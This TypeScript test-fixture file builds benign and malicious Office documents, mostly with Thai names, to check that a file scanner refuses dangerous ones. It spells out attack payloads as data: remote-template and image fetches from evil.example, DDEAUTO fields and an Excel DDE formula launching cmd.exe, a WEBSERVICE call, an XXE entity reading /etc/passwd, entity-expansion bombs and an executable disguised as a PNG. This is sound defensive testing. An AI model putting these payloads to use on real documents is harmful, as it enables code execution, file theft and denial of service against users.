import { Document, Packer, Paragraph } from 'docx';
import { cell, docxOf, paragraph, pptxOf, relations, xlsxOf } from './make/office.ts';
import type { Sample } from './sample.ts';

const evil = 'http://evil.example/t.dotm';
const OLE = Buffer.concat([Buffer.from('d0cf11e0a1b11ae1', 'hex'), Buffer.alloc(2000)]);
const docRelations = (type: string, target: string) => ({
  'word/_rels/document.xml.rels': relations({ type, target, external: true }),
});
const field = (...runs: string[]) =>
  `<w:p><w:r><w:fldChar w:fldCharType="begin"/></w:r>${runs.map((run) => `<w:r><w:instrText>${run}</w:instrText></w:r>`).join('')}<w:r><w:fldChar w:fldCharType="end"/></w:r></w:p>`;
const refusedDocx = (
  title: string,
  code: NonNullable<Sample['refused']>[number],
  bytes: () => Buffer,
): Sample => ({
  title: `DOCX ${title}`,
  name: 'บันทึก.docx',
  bytes,
  refused: [code],
});
const refusedXlsx = (
  title: string,
  code: NonNullable<Sample['refused']>[number],
  bytes: () => Buffer,
): Sample => ({
  title: `XLSX ${title}`,
  name: 'ตาราง.xlsx',
  bytes,
  refused: [code],
});

const honest: readonly Sample[] = [
  {
    title: 'DOCX by a library',
    name: 'หนังสือราชการ.docx',
    bytes: () =>
      Packer.toBuffer(new Document({ sections: [{ children: [new Paragraph('รายงานผู้ว่าการน้ำ')] }] })),
    text: 'read',
    says: 'รายงานผู้ว่าการน้ำ',
  },
  {
    title: 'DOCX by hand',
    name: 'a.docx',
    bytes: () => docxOf(paragraph('งบประมาณ')),
    text: 'read',
    says: 'งบประมาณ',
  },
  {
    title: 'DOCX with a link to an address',
    name: 'ลิงก์.docx',
    bytes: () => docxOf(paragraph('ดูที่นี่'), docRelations('hyperlink', 'https://www.oic.go.th')),
    text: 'read',
  },
  {
    title: 'DOCX made from a template on the disk',
    name: 'แม่แบบ.docx',
    bytes: () =>
      docxOf(paragraph('จากแม่แบบ'), {
        'word/_rels/settings.xml.rels': relations({
          type: 'attachedTemplate',
          target: 'file:///C:\\แม่แบบ\\a.dotx',
          external: true,
        }),
      }),
    text: 'read',
  },
  {
    title: 'XLSX',
    name: 'งบประมาณ ๒๕๖๙.xlsx',
    bytes: () => xlsxOf(cell('A1', 'โครงการ') + cell('B1', '๑,๐๐๐')),
    text: 'read',
    says: 'โครงการ',
  },
  {
    title: 'PPTX',
    name: 'นำเสนอ.pptx',
    bytes: () => pptxOf('ผลการดำเนินงาน'),
    text: 'read',
    says: 'ผลการดำเนินงาน',
  },
  {
    title: 'DOCX with the workbook of a chart',
    name: 'แผนภูมิ.docx',
    bytes: () =>
      docxOf(paragraph('แผนภูมิ'), {
        'word/embeddings/Microsoft_Excel_Sheet1.xlsx': xlsxOf(cell('A1', 'เบื้องหลัง')),
      }),
    text: 'read',
  },
];

const programs: readonly Sample[] = [
  {
    title: 'PPTX with a click that starts a program',
    name: 'คลิก.pptx',
    bytes: () =>
      pptxOf('x', {
        'ppt/slides/slide2.xml':
          '<p:sld xmlns:p="p" xmlns:a="a"><a:hlinkClick action="ppaction://program"/></p:sld>',
      }),
    refused: ['active_content'],
  },
  refusedDocx('with macros under a harmless name', 'macros', () =>
    docxOf(paragraph('x'), { 'word/vbaProject.bin': OLE }),
  ),
  refusedDocx('of the type with macros', 'macros', () =>
    docxOf(
      paragraph('x'),
      {},
      '<Override PartName="/word/v.bin" ContentType="application/vnd.ms-office.vbaProject"/>',
    ),
  ),
  {
    title: 'DOCM',
    name: 'มาโคร.docm',
    bytes: () =>
      Buffer.from(
        docxOf(paragraph('x'), {
          '[Content_Types].xml':
            '<Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types"><Override PartName="/word/document.xml" ContentType="application/vnd.ms-word.document.macroEnabled.main+xml"/></Types>',
        }),
      ),
    refused: ['macros'],
  },
  refusedXlsx('with an Excel 4 macro sheet', 'macros', () =>
    xlsxOf(cell('A1', 'x'), { 'xl/macrosheets/sheet1.xml': '<a/>' }),
  ),
  refusedDocx('with ActiveX', 'active_content', () =>
    docxOf(paragraph('x'), { 'word/activeX/activeX1.xml': '<a/>' }),
  ),
  refusedDocx('that fetches its template', 'outside_links', () =>
    docxOf(paragraph('x'), {
      'word/_rels/settings.xml.rels': relations({ type: 'attachedTemplate', target: evil, external: true }),
    }),
  ),
  refusedDocx('that fetches its template from a share', 'outside_links', () =>
    docxOf(paragraph('x'), docRelations('attachedTemplate', '\\\\evil.example\\t.dotm')),
  ),
  refusedDocx('that fetches a picture', 'outside_links', () =>
    docxOf(paragraph('x'), docRelations('image', 'http://evil.example/1.gif')),
  ),
  refusedDocx('with a link that starts a program', 'active_content', () =>
    docxOf(paragraph('x'), docRelations('hyperlink', 'ms-msdt:/id')),
  ),
  refusedDocx('with DDE', 'active_content', () => docxOf(field('DDEAUTO c:\\\\cmd.exe &quot;/k calc&quot;'))),
  refusedDocx('with DDE cut into runs', 'active_content', () =>
    docxOf(field('DD', 'EAU', 'TO c:\\\\cmd.exe')),
  ),
  refusedDocx('with DDE in a simple field', 'active_content', () =>
    docxOf('<w:p><w:fldSimple w:instr=" DDE cmd calc "/></w:p>'),
  ),
  refusedDocx('with DDE under another prefix', 'active_content', () =>
    docxOf(
      '<x:p xmlns:x="http://schemas.openxmlformats.org/wordprocessingml/2006/main"><x:fldSimple x:instr="DDE cmd calc"/></x:p>',
    ),
  ),
  refusedDocx('with DDE in a part of another ending', 'active_content', () =>
    docxOf(paragraph('x'), {
      'word/more.dat': '<?xml version="1.0"?><w:p xmlns:w="w"><w:fldSimple w:instr="DDE cmd calc"/></w:p>',
    }),
  ),
  refusedDocx('with relationships of another ending', 'outside_links', () =>
    docxOf(paragraph('x'), {
      'word/_rels/settings.xml.RELS': relations({ type: 'attachedTemplate', target: evil, external: true }),
    }),
  ),
  refusedDocx('in a character set that hides markup', 'broken', () =>
    docxOf(paragraph('x'), { 'word/more.xml': '<?xml version="1.0" encoding="UTF-7"?><a/>' }),
  ),
  refusedDocx('that includes a picture by a field', 'outside_links', () =>
    docxOf(field('INCLUDEPICTURE &quot;http://evil.example/a.png&quot; \\d')),
  ),
  refusedDocx('with an OLE object', 'embedded_files', () =>
    docxOf(paragraph('x'), { 'word/embeddings/oleObject1.bin': OLE }),
  ),
  refusedDocx('with a program as a picture', 'embedded_files', () =>
    docxOf(paragraph('x'), { 'word/media/image1.png': Buffer.from('MZ\u0090\0') }),
  ),
  refusedDocx('with a web page as a part', 'active_content', () =>
    docxOf(paragraph('x'), {
      'word/_rels/document.xml.rels': relations({ type: 'aFChunk', target: 'a.html' }),
    }),
  ),
  refusedDocx('with a chart workbook that has macros', 'macros', () =>
    docxOf(paragraph('x'), {
      'word/embeddings/Sheet1.xlsx': xlsxOf(cell('A1', 'x'), { 'xl/vbaProject.bin': OLE }),
    }),
  ),
  refusedXlsx('with DDE in a formula', 'active_content', () =>
    xlsxOf('<c r="A1"><f>cmd|\'/c calc\'!A0</f></c>'),
  ),
  refusedXlsx('with a DDE link', 'active_content', () =>
    xlsxOf(cell('A1', 'x'), {
      'xl/externalLinks/externalLink1.xml':
        '<externalLink><ddeLink ddeService="cmd" ddeTopic="/c calc"/></externalLink>',
    }),
  ),
  refusedXlsx('that fetches by a formula', 'outside_links', () =>
    xlsxOf('<c r="A1"><f>_xlfn.WEBSERVICE("http://evil.example")</f></c>'),
  ),
  refusedXlsx('with a connection to data', 'outside_links', () =>
    xlsxOf(cell('A1', 'x'), { 'xl/connections.xml': '<connections/>' }),
  ),
];

const broken: readonly Sample[] = [
  refusedDocx('with entities that multiply', 'active_content', () =>
    docxOf(paragraph('x'), {
      'word/document.xml': `<?xml version="1.0"?><!DOCTYPE l [<!ENTITY a "ha"><!ENTITY b "&a;&a;&a;&a;&a;&a;&a;&a;&a;&a;"><!ENTITY c "&b;&b;&b;&b;&b;&b;&b;&b;&b;&b;">]><l>&c;</l>`,
    }),
  ),
  refusedDocx('with an entity from a file', 'active_content', () =>
    docxOf(paragraph('x'), {
      'word/document.xml': '<!DOCTYPE l [<!ENTITY a SYSTEM "file:///etc/passwd">]><l>&a;</l>',
    }),
  ),
  refusedDocx('with elements ten thousand deep', 'too_large_inside', () =>
    docxOf('<w:p>'.repeat(10_000) + '</w:p>'.repeat(10_000)),
  ),
  refusedDocx('with broken XML', 'broken', () => docxOf('<w:p><w:r></w:p>')),
  refusedDocx('cut off', 'broken', () => docxOf(paragraph('x'.repeat(4000))).subarray(0, 700)),
  {
    title: 'DOCX locked with a password',
    name: 'ล็อก.docx',
    bytes: () => Buffer.concat([OLE, Buffer.from('EncryptedPackage', 'utf16le'), Buffer.alloc(500)]),
    refused: ['password_protected'],
  },
  { title: 'DOC of old Word', name: 'เก่า.doc', bytes: () => OLE, refused: ['old_office'] },
  {
    title: 'XLSX named DOCX',
    name: 'ผิดชื่อ.docx',
    bytes: () => xlsxOf(cell('A1', 'x')),
    refused: ['name_and_content_differ'],
  },
];

export const OFFICE_SAMPLES: readonly Sample[] = [...honest, ...programs, ...broken];
